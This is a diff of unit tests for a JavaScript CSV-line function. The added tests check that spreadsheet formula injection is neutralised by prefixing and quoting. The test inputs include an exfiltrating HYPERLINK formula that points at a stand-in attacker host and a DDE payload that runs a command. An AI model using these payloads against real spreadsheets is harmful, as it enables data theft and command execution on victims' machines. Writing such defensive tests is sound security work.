@@ -16,6 +16,26 @@ describe('csvLine', () => {
     expect(csvLine([' x', 'Zürich — §'])).toBe(' x,Zürich — §\n');
   });
 
+  it('neutralises a text a spreadsheet would run as a formula (OWASP): an apostrophe first, then quoted', () => {
+    expect(
+      csvLine([
+        '=HYPERLINK("http://evil.example/?leak","x")',
+        "=cmd|' /C calc'!A0",
+        '@SUM(A1)',
+        '+1',
+        '-2',
+        '\tlead',
+        '\rlead',
+      ]),
+    ).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak"",""x"")","'=cmd|' /C calc'!A0","'@SUM(A1)","'+1","'-2","'\tlead","'\rlead"\n`,
+    );
+  });
+
+  it('leaves numbers and texts that only hold those characters later as they are', () => {
+    expect(csvLine([-1, 0, 'a=b', 'x-1', 'mail@example.org'])).toBe('-1,0,a=b,x-1,mail@example.org\n');
+  });
+
   it('refuses a non-finite number', () => {
     expect(() => csvLine([Number.NaN])).toThrow(RangeError);
   });
